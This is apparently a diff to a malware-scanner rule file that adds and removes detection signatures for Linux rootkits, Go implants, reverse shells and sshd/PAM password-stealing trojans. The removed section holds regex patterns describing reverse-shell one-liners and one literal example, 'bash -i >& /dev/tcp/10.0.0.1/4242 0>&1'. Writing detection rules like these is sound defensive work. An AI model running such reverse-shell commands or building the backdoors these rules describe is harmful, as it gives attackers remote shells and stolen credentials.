@@ -122,6 +122,35 @@ export const ROOTKITS: readonly ContentRule[] = [
           ],
         },
         {
+          all: [
+            '/etc/ld.so.preload',
+            { any: ['readdir64', 'readdir', 'dlsym', '__xstat', 'fopen64'] },
+            {
+              atLeast: 2,
+              of: [
+                'pam_authenticate',
+                'pam_verify',
+                'pam_get',
+                'getspnam',
+                'hide_port',
+                'hidden',
+                'hide_',
+                'backdoor',
+                'magicgid',
+                'magic_gid',
+                'ssh_pass',
+                'drop_shell',
+                'kitname',
+                'accept_',
+                'gnutls_record',
+                'falsify',
+                'rootkit',
+                'silly.txt',
+              ],
+            },
+          ],
+        },
+        {
           atLeast: 2,
           of: [
             'azazel',
@@ -264,6 +293,26 @@ export const ROOTKITS: readonly ContentRule[] = [
     in: ['program', 'script'],
     when: {
       any: [
+        {
+          atLeast: 3,
+          of: [
+            'main.reverseShell',
+            'main.ReverseShell',
+            'main.execCommand',
+            'main.keylogger',
+            'main.Keylogger',
+            'main.screenshot',
+            'main.takeScreenshot',
+            'main.persist',
+            'main.installPersistence',
+            'main.downloadExec',
+            'main.DownloadAndExecute',
+            'main.killProcess',
+            'main.stealBrowser',
+            'main.beacon',
+            'main.runShell',
+          ],
+        },
         'github.com/bishopfox/sliver/',
         'sliverpb.',
         'github.com/Ne0nd0g/merlin',
@@ -282,7 +331,7 @@ export const ROOTKITS: readonly ContentRule[] = [
         { all: ['beacon', 'geacon'] },
         { all: ['pupyimporter'] },
         { all: ['gs-netcat', 'gsocket', { any: ['GSOCKET_ARGS', 'GS_ARGS', 'defunct', 'deploy'] }] },
-        { all: ['kthread', 'GS_ARGS'] },
+        { all: ['kthread', 'GS_ARGS='] },
         { all: ['EarthWorm', 'ssocksd', 'rcsocks'] },
       ],
     },
@@ -354,6 +403,12 @@ export const ROOTKITS: readonly ContentRule[] = [
           ],
         },
         { all: ['/usr/lib64/seahorses/'] },
+        {
+          all: [
+            'keyctl_set_reqkey_keyring',
+            { any: ['PermitRootLogin', 'sshd_config', 'ssh_host', 'libns2.so', 'libpw5.so'] },
+          ],
+        },
         { all: ['HIDE_THIS_SHELL'] },
         { all: ['.po1kitd'] },
       ],
@@ -365,109 +420,5 @@ export const ROOTKITS: readonly ContentRule[] = [
     ],
     match: ['I_AM_HIDDEN', 'HIDE_THIS_SHELL=x', 'libxselinux'],
     harmless: ['libselinux', 'polkitd'],
-  },
-  {
-    number: 68,
-    name: 'Script.Backdoor.ReverseShell',
-    title: ['Script that gives somebody elsewhere a shell', '将 shell 交给远端的脚本'],
-    kind: 'backdoor',
-    in: ['script'],
-    severity: 'high',
-    when: {
-      any: [
-        {
-          pattern: /(?:bash|sh|zsh)\s+-i\s{0,4}(?:[0-9]?>&|&>|<>)\s{0,4}\/dev\/(?:tcp|udp)\//,
-          near: ['/dev/tcp/', '/dev/udp/'],
-        },
-        {
-          pattern: /exec\s+\d{1,3}<>\s{0,4}\/dev\/(?:tcp|udp)\/[^\n]{1,100}[\n;][^\n]{0,200}(?:while|sh|cat\s*<&|bash)/,
-          near: ['/dev/tcp/', '/dev/udp/'],
-        },
-        {
-          pattern:
-            /mkfifo\s+\S{1,100}[^\n]{0,40}(?:;|&&)[^\n]{0,120}(?:\/bin\/(?:ba|da)?sh|\bsh)\s+-i[^\n]{0,80}\|\s{0,4}(?:nc|ncat|openssl|telnet|socat)\b/,
-          near: ['mkfifo'],
-        },
-        {
-          pattern:
-            /\b(?:nc|ncat|netcat)(?:\.\w+)?\s[^\n|]{0,100}(?:-e|-c|--exec|--sh-exec)\s{0,4}["']?\/?(?:bin\/)?(?:ba|da|z)?sh\b/,
-          near: ['nc -', 'ncat ', 'netcat ', 'nc.traditional', '/bin/sh', '/bin/bash'],
-        },
-        {
-          all: [
-            'socket.socket',
-            { any: ['os.dup2', 'dup2('] },
-            { any: ['pty.spawn', '/bin/sh', '/bin/bash', 'subprocess.call'] },
-          ],
-        },
-        {
-          all: [
-            'IO::Socket::INET',
-            { any: ['open(STDIN', 'STDIN->fdopen'] },
-            { any: ['/bin/sh', 'exec {', 'exec("/bin'] },
-          ],
-        },
-        { all: ['fsockopen', { any: ['/bin/sh -i', '/bin/bash -i', 'uname -a; w; id'] }] },
-        { all: ['net.Socket', 'child_process', { any: ['/bin/sh', '/bin/bash', 'cmd.exe'] }, '.pipe('] },
-        { all: ['TCPSocket', { any: ['exec sprintf', '/bin/sh -i', 'IO.popen'] }] },
-        { pattern: /socat\s[^\n]{0,120}exec:["']?(?:\/bin\/)?(?:ba)?sh/i, near: ['socat '] },
-      ],
-    },
-    attack: ['T1059.004', 'T1095'],
-    references: [
-      'https://attack.mitre.org/techniques/T1059/004/',
-      'https://swisskyrepo.github.io/InternalAllTheThings/cheatsheets/shell-reverse-cheatsheet/',
-    ],
-    match: ['#!/bin/bash', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'],
-    harmless: ['#!/bin/bash', '(echo > /dev/tcp/db/5432) 2>/dev/null && echo up', 'nc -z db 5432'],
-  },
-  {
-    number: 69,
-    name: 'Linux.Backdoor.SshdTrojan',
-    title: ['sshd or PAM module that keeps passwords or has one of its own', '记录口令或带有后门口令的 sshd、PAM 模块'],
-    kind: 'backdoor',
-    in: ['program'],
-    when: {
-      any: [
-        {
-          all: [
-            'pam_sm_authenticate',
-            { any: ['/tmp/.', '/var/tmp/.', '/dev/shm/', '/usr/share/.', '/var/log/.', '/root/.'] },
-            { any: ['user=%s', 'pass=%s', 'password: %s', 'Username %s', 'a+'] },
-          ],
-        },
-        {
-          all: [
-            'pam_sm_authenticate',
-            'getaddrinfo',
-            { any: ['%s:%s', '%s %s %s', 'pass=%s'] },
-            { any: ['sendto', 'socket', 'gethostbyname'] },
-            { any: ['POST /', 'GET /', 'api.telegram.org', '.onion'] },
-          ],
-        },
-        {
-          all: [
-            'SSH-2.0-',
-            'sshd_config',
-            {
-              any: [
-                'user:password@host',
-                '-> %s:%s',
-                'user: %s, pass',
-                'login from: %s (%s:%s)',
-                '+user: %s +password: %s',
-              ],
-            },
-          ],
-        },
-      ],
-    },
-    attack: ['T1556.003', 'T1554'],
-    references: [
-      'https://www.welivesecurity.com/2018/12/05/dark-side-of-the-forsshe/',
-      'https://attack.mitre.org/techniques/T1556/003/',
-    ],
-    match: ['pam_sm_authenticate', 'pam_get_user', '/var/tmp/.log', '%s:%s', 'a+'],
-    harmless: ['pam_sm_authenticate', 'pam_get_user', '/etc/security/opasswd', '%s:%s'],
   },
 ]
